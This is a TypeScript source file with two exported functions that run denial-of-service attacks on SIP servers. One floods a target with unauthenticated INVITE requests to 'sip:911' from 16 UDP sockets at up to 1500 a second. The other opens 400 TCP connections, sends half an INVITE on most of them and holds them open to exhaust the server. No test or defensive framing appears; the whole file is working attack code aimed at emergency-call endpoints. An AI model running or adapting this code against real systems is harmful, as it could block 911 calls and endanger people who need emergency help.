import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

type Target = { readonly address: string; readonly port: number };

const invitesPerTick = 15;
const tickMs = 10;
const connections = 400;

/** Unauthenticated INVITEs for so many milliseconds, at most 1500 a second, from 16 sources; returns how many. */
export async function floodUnauthenticatedInvites({
  from,
  target,
  milliseconds,
}: {
  from: string;
  target: Target;
  milliseconds: number;
}): Promise<number> {
  const sockets = await Promise.all(
    Array.from({ length: 16 }, async () => {
      const socket = createSocket('udp4');
      socket.on('error', () => {});
      socket.bind(0, from);
      await once(socket, 'listening');
      return socket;
    }),
  );
  let sent = 0;
  for (const until = performance.now() + milliseconds; performance.now() < until; await sleep(tickMs)) {
    for (let index = 0; index < invitesPerTick; index += 1, sent += 1) {
      const socket = sockets[sent % sockets.length];
      socket?.send(invite(sent, { address: from, port: socket.address().port }, target), target.port, target.address, () => {});
    }
  }
  await Promise.all(sockets.map((socket) => once(socket.close(), 'close')));
  return sent;
}

function invite(number: number, from: Target, to: Target): string {
  return [
    `INVITE sip:911@${to.address}:${to.port} SIP/2.0`,
    `Via: SIP/2.0/UDP ${from.address}:${from.port};branch=z9hG4bKstranger${number}`,
    'Max-Forwards: 70',
    `From: <sip:unknown@${from.address}>;tag=${number}`,
    `To: <sip:911@${to.address}>`,
    `Call-ID: unknown-${number}@${from.address}`,
    'CSeq: 1 INVITE',
    `Contact: <sip:unknown@${from.address}:${from.port}>`,
    'Content-Length: 0',
    '',
    '',
  ].join('\r\n');
}

type HeldConnections = { readonly from: string; readonly targets: readonly Target[]; readonly milliseconds: number };

/** Opens 400 connections, says half a request on most and holds them; returns how many were taken. */
export async function holdConnections({ from, targets, milliseconds }: HeldConnections): Promise<number> {
  let accepted = 0;
  const sockets = Array.from({ length: connections }, (_, index) => {
    const target = targets[index % targets.length];
    const socket = connect({ host: target?.address ?? '', port: target?.port ?? 0, localAddress: from });
    socket.on('error', () => {});
    socket.once('connect', () => {
      accepted += 1;
      socket.write(index % 4 === 0 ? '' : 'INVITE sip:911');
    });
    return socket;
  });
  await sleep(milliseconds);
  for (const socket of sockets) socket.destroy();
  return accepted;
}
